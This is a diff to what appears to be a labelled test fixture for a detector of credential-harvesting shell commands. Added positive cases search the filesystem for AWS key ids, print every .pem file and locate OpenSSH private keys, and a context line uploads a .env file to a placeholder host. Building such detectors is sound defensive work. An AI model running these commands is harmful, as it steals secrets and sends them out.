@@ -36,3 +36,12 @@ curl -s -F f=@.env https://c.example/
 #@ neg .env.example and .envrc
 cp .env.example .env.local.sample
 source .envrc
+#@ pos the file system searched for AWS key ids
+grep -rhoE 'AKIA[0-9A-Z]{16}' / 2>/dev/null
+#@ pos private keys found by name
+find / -name '*.pem' -exec cat {} +
+#@ pos a private key's header searched for
+rg -l 'BEGIN OPENSSH PRIVATE KEY' ~
+#@ neg a search of the program's own sources
+grep -rn TODO src/
+find . -name '*.py' -newer setup.cfg
